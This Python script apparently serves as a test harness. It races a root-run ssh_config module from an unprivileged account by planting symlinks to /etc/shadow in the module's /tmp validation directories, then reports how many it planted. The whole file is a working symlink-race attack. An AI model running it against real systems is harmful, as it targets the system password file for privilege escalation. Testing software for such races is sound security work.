"""Run as an unprivileged user: try to win the race against root's ssh_config module.

Polls /tmp for the module's validation directories and plants symlinks to
/etc/shadow under every name the module writes there (and under the names of
the old layout, a subdirectory per user), until /tmp/racer.stop appears or
the time limit passes. Prints one line: "seen N planted K attempts A".
"""
import glob
import os
import sys
import time

user = sys.argv[1]
seconds = float(sys.argv[2])
names = ["user-%s.config" % user, "user-%s.wrapper" % user, "user-%s/config" % user, "user-%s/wrapper" % user]
seen, planted, attempts = set(), 0, 0
deadline = time.time() + seconds
while time.time() < deadline and not os.path.exists("/tmp/racer.stop"):
    for directory in glob.glob("/tmp/sshsuite-ssh-*"):
        seen.add(directory)
        for name in names:
            attempts += 1
            try:
                os.symlink("/etc/shadow", os.path.join(directory, name))
                planted += 1
            except OSError:
                pass
print("seen %d planted %d attempts %d" % (len(seen), planted, attempts), flush=True)
